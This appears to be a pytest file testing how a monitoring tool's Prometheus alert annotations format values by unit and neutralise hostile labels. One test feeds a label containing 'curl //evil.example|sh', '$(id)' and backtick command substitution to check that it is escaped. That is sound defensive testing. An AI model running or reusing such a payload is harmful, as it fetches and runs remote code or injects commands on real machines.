"""The value in an alert's description as a real Prometheus writes it, by the unit of the signal."""

import json
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from diag.artefacts.names import alert_label, alert_value


@pytest.mark.parametrize(
    ("unit", "value", "text"),
    [
        ("share", 0.074, "7.4%"),
        ("share", 1, "100%"),
        ("seconds", 0.085, "85ms"),
        ("seconds", 754, "12m 34s"),
        ("bytes", 1.5 * 2**30, "1.5GiB"),
        ("celsius", 3, "3 °C"),
        ("watts", 412.5, "412 W"),
        ("bool", 1, "yes"),
        ("bool", 0, "no"),
        ("requests", 0.09, "0.09"),
        ("requests", 1.333, "1.33"),
        ("requests", 12345, "12345"),
        ("requests", -2, "-2"),
    ],
)
def test_value_is_printed_with_its_unit(tmp_path: Path, unit: str, value: float, text: str) -> None:
    fires(tmp_path, alert_value(unit), text, value=value)


def test_a_hostile_label_is_no_markup_and_ends_no_quote_in_an_annotation(tmp_path: Path) -> None:
    evil, shown = (
        "0; curl //evil.example|sh #'\"$(id)`id`<!channel>\n",
        "0? curl ?evil.example?sh ?????id??id???channel??",
    )
    fires(
        tmp_path,
        f"diag doctor --match 'gpu=\"{alert_label('gpu')}\"'",
        f"diag doctor --match 'gpu=\"{shown}\"'",
        gpu=evil,
    )
    fires(tmp_path, alert_label("gpu"), "GPU-1/[::1]:8" + 87 * "a", gpu="GPU-1/[::1]:8" + 500 * "a")


def fires(folder: Path, template: str, expected: str, value: float = 1, **labels: str) -> None:
    """One alert with that annotation, as Prometheus fills it in."""
    if shutil.which("promtool") is None:
        pytest.skip("no promtool: .ci/components installs it")
    rule = {"alert": "A", "expr": "measured > -100", "annotations": {"description": template}}
    (folder / "rules.yaml").write_text(yaml.safe_dump({"groups": [{"name": "g", "rules": [rule]}]}))
    series = "measured{" + ",".join(f"{name}={json.dumps(label)}" for name, label in labels.items()) + "}"
    fired = {"exp_labels": labels, "exp_annotations": {"description": expected}}
    test = {
        "interval": "1m",
        "input_series": [{"series": series, "values": f"{value}x2"}],
        "alert_rule_test": [{"alertname": "A", "eval_time": "1m", "exp_alerts": [fired]}],
    }
    (folder / "tests.yaml").write_text(yaml.safe_dump({"rule_files": ["rules.yaml"], "tests": [test]}))
    command = ["promtool", "test", "rules", str(folder / "tests.yaml")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
